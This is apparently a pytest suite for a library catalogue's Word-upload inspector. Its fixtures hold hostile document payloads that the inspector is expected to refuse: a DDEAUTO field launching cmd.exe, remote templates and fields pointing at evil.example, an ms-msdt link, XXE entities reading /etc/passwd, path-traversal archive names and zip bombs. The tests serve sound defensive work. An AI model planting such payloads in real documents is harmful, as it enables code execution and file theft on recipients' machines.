"""A Word document that holds text and pictures is taken; one that does anything when it is opened is refused."""

import io
import struct
import zipfile
from collections.abc import Callable

import pytest

from library.catalogue.uploads import inspect_upload
from library.catalogue.uploads.refusals import (
    ArchiveUnsafe,
    DocumentActive,
    FileDamaged,
    FileHoldsAnother,
    FileRefused,
    FileTypeNotAccepted,
)
from tests import files

RELS = "word/_rels/document.xml.rels"
SETTINGS_RELS = "word/_rels/settings.xml.rels"


def field(*pieces: str) -> str:
    """A field whose code is spread over several runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def with_body(body: str) -> bytes:
    return files.word({"word/document.xml": files.document_xml(body)})


def with_type(content_type: str, part: str = "/word/x.xml") -> bytes:
    override = f'<Override PartName="{part}" ContentType="{content_type}"/>'
    return files.word({"[Content_Types].xml": files.content_types(more=override), part[1:]: "<x/>"})


GOOD = {
    "text": files.word(),
    "a picture": files.word(
        {"word/media/image1.png": files.image("PNG"), RELS: files.relations(("image", "media/image1.png", False))}
    ),
    "links": files.word(
        {RELS: files.relations(("hyperlink", "https://www.nhs.uk/link", True), ("hyperlink", "mailto:a@b.org", True))}
    ),
    "a link to a place in itself": files.word({RELS: files.relations(("hyperlink", "#top", True))}),
    "a field that links": with_body(field(' HYPERLINK "https://example.org/link" ')),
    "a table of contents and page numbers": with_body(field(" TOC \\o ") + field(" PAGE ")),
    "the word link in its text": with_body("<w:r><w:t>LINK DDE INCLUDETEXT</w:t></w:r>"),
    "a prompt": with_body(field(" MACROBUTTON NoMacro [Click here] ")),
    "a drawing with a document type": files.word({"word/media/icon.svg": "<!DOCTYPE svg><svg/>"}),
    "a directory": files.word({"word/": b""}),
    "a sensitivity label": with_type("application/vnd.ms-office.classificationlabels+xml", "/docMetadata/label.xml"),
}

ACTIVE = {
    "a macro": files.word({"word/vbaProject.bin": b"\xd0\xcf"}),
    "a macro in other letters": files.word({"word/VBAPROJECT.BIN": b"\xd0\xcf"}),
    "a macro by another name": with_type("application/vnd.ms-office.vbaProject", "/word/harmless.xml"),
    "a macro by relation": files.word({RELS: files.relations(("vbaProject", "a.xml", False))}),
    "a macro document": files.word(
        {"[Content_Types].xml": files.content_types("application/vnd.ms-word.document.macroEnabled.main+xml")}
    ),
    "a template from elsewhere": files.word(
        {SETTINGS_RELS: files.relations(("attachedTemplate", "https://evil.example/t.dotm", True))}
    ),
    "a template from a disk": files.word(
        {SETTINGS_RELS: files.relations(("attachedTemplate", "file:///C:/Normal.dotm", True))}
    ),
    "a picture from elsewhere": files.word({RELS: files.relations(("image", "https://evil.example/pixel.png", True))}),
    "an object from elsewhere": files.word(
        {RELS: files.relations(("oleObject", "mhtml:https://evil.example/x!x", True))}
    ),
    "an embedded object": files.word({"word/embeddings/oleObject1.bin": b"\xd0\xcf"}),
    "an embedded workbook": files.word({"word/embeddings/sheet.xlsx": b"PK"}),
    "an ActiveX control": files.word({"word/activeX/activeX1.xml": "<x/>"}),
    "a chunk of HTML": files.word({RELS: files.relations(("aFChunk", "chunk.html", False))}),
    "a web add-in": files.word({"word/webextensions/taskpanes.xml": "<x/>"}),
    "a subdocument": files.word({RELS: files.relations(("subDocument", "b.docx", False))}),
    "a program": files.word({"word/media/setup.exe": b"MZ"}),
    "DDE": with_body(field(' DDEAUTO c:\\windows\\cmd.exe "/k calc" ')),
    "DDE over several runs": with_body(field(" D", "DE", "AUTO cmd ")),
    "DDE in a simple field": with_body('<w:fldSimple w:instr="DDE cmd x"/>'),
    "DDE in a header": files.word({"word/header1.xml": files.document_xml(field("dde cmd"))}),
    "text from elsewhere": with_body(field(' INCLUDETEXT "https://evil.example/x" ')),
    "a picture field": with_body(field(' INCLUDEPICTURE "https://evil.example/x.png" ')),
    "a link to a disk": files.word({RELS: files.relations(("hyperlink", "file:///etc/passwd", True))}),
    "a link to a share": files.word({RELS: files.relations(("hyperlink", "\\\\evil.example\\share", True))}),
    "a link to a program": files.word({RELS: files.relations(("hyperlink", "ms-msdt:/id PCWDiagnostic", True))}),
    "a script as a link": files.word({RELS: files.relations(("hyperlink", " javascript:alert(1)", True))}),
    "an entity": files.word({"word/document.xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}),
    "an entity in UTF-16": files.word(
        {"word/document.xml": '<!DOCTYPE x [<!ENTITY e "boo">]><x>&e;</x>'.encode("utf-16")}
    ),
    "a thousand million laughs": files.word({RELS: "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]><x>&b;</x>"}),
}

OTHERS = {
    "a workbook": files.word(
        {
            "[Content_Types].xml": files.content_types(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
            )
        }
    ),
    "a template": files.word(
        {"[Content_Types].xml": files.content_types(files.MAIN.replace("document.main", "template.main"))}
    ),
    "an archive": files.archive({"a.txt": "a"}),
    "an OpenDocument text": files.archive({"mimetype": "application/vnd.oasis.opendocument.text"}),
    "a Java archive": files.archive({"META-INF/MANIFEST.MF": "Main-Class: Evil"}),
}


@pytest.mark.parametrize("what", GOOD)
def test_text_and_pictures_are_taken(what: str) -> None:
    assert inspect_upload(GOOD[what], "x").extension == "docx"


@pytest.mark.parametrize("what", ACTIVE)
def test_whatever_does_more_is_refused(what: str) -> None:
    with pytest.raises(DocumentActive):
        inspect_upload(ACTIVE[what], "x.docx")


@pytest.mark.parametrize("what", OTHERS)
def test_other_archives_are_not_word_documents(what: str) -> None:
    with pytest.raises(FileTypeNotAccepted):
        inspect_upload(OTHERS[what], "x.docx")


NAMES = [
    "../evil.xml",
    "word/../../evil.xml",
    "/etc/passwd",
    "C:/evil.xml",
    "word\\..\\evil.xml",
    "word//x.xml",
    "./x.xml",
    "word/..",
    "a\nb.xml",
    "word/x.xml\x00.png",
    "n" * 300 + ".xml",
]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_leads_outside_is_refused(name: str) -> None:
    stand_in = "N" * len(name)
    data = files.word({stand_in: "<x/>"}).replace(stand_in.encode(), name.encode())
    with pytest.raises(ArchiveUnsafe):
        inspect_upload(data, "x")


@pytest.mark.parametrize("name", ["word/document.xml", "WORD/DOCUMENT.XML"])
def test_two_parts_of_one_name_are_refused(name: str) -> None:
    stand_in = "w" * len(name)
    data = files.word({stand_in: "<x/>"}).replace(stand_in.encode(), name.encode())
    with pytest.raises(ArchiveUnsafe, match="same name"):
        inspect_upload(data, "x")


def changed(change: Callable[[zipfile.ZipInfo], None]) -> bytes:
    """A document with one more part, about which something is odd."""
    part = zipfile.ZipInfo("word/extra.xml")
    change(part)
    output = io.BytesIO(files.word())
    with zipfile.ZipFile(output, "a") as packed:
        packed.writestr(part, "<x/>" * 100)
    return output.getvalue()


def make_link(part: zipfile.ZipInfo) -> None:
    part.external_attr = 0o120777 << 16


def make_bzip2(part: zipfile.ZipInfo) -> None:
    part.compress_type = zipfile.ZIP_BZIP2


@pytest.mark.parametrize("change", [make_link, make_bzip2])
def test_an_odd_part_is_refused(change: Callable[[zipfile.ZipInfo], None]) -> None:
    with pytest.raises(ArchiveUnsafe):
        inspect_upload(changed(change), "x")


def test_a_locked_part_is_refused() -> None:
    data = bytearray(files.word())
    entry = data.index(b"PK\x01\x02")
    data[entry + 8] |= 1
    with pytest.raises(ArchiveUnsafe, match="password"):
        inspect_upload(bytes(data), "x")


def test_a_part_hidden_under_another_type_is_refused() -> None:
    with pytest.raises(ArchiveUnsafe, match="hidden"):
        inspect_upload(
            with_type("application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml", "/word/x.dat"), "x"
        )


def test_a_bomb_is_refused() -> None:
    with pytest.raises(ArchiveUnsafe, match="unpacks to"):
        inspect_upload(files.word({"word/big.xml": b" " * 90_000_000}), "x")


def test_many_parts_are_refused() -> None:
    with pytest.raises(ArchiveUnsafe, match="more than"):
        inspect_upload(files.word({f"word/{number}.txt": "" for number in range(2_100)}), "x")


def test_a_false_size_is_refused() -> None:
    data = bytearray(files.word({"word/big.xml": b"<x>" + b" " * 1_000_000 + b"</x>"}))
    entry = data.rindex(b"PK\x01\x02")
    data[entry + 24 : entry + 28] = struct.pack("<I", 10)
    with pytest.raises(FileDamaged):
        inspect_upload(bytes(data), "x")


def test_parts_that_share_bytes_are_refused() -> None:
    """The strongest bombs: many directory entries, one stretch of packed bytes."""
    one = files.word({"word/a.xml": b"<x>" + bytes(range(32, 60)) * 3_000 + b"</x>"})
    end = one.rindex(b"PK\x05\x06")
    entry = one[one.rindex(b"PK\x01\x02", 0, end) : end]
    count = struct.unpack("<H", one[end + 10 : end + 12])[0] + 1
    size = struct.unpack("<I", one[end + 12 : end + 16])[0] + len(entry)
    tail = bytearray(one[end:])
    tail[8:12] = struct.pack("<2H", count, count)
    tail[12:16] = struct.pack("<I", size)
    double = one[:end] + entry.replace(b"word/a.xml", b"word/b.xml") + bytes(tail)
    with pytest.raises(FileRefused):
        inspect_upload(double, "x")


@pytest.mark.parametrize(
    "change", [lambda data: data + b"<script>", lambda data: data[:-30], lambda data: data[:4] + b"x" + data[4:]]
)
def test_what_stands_around_a_document_is_refused(change: Callable[[bytes], bytes]) -> None:
    with pytest.raises(FileHoldsAnother):
        inspect_upload(change(files.word()), "x")


def test_text_that_is_not_xml_is_refused() -> None:
    with pytest.raises(FileDamaged):
        inspect_upload(files.word({"word/document.xml": "<w:document>"}), "x")
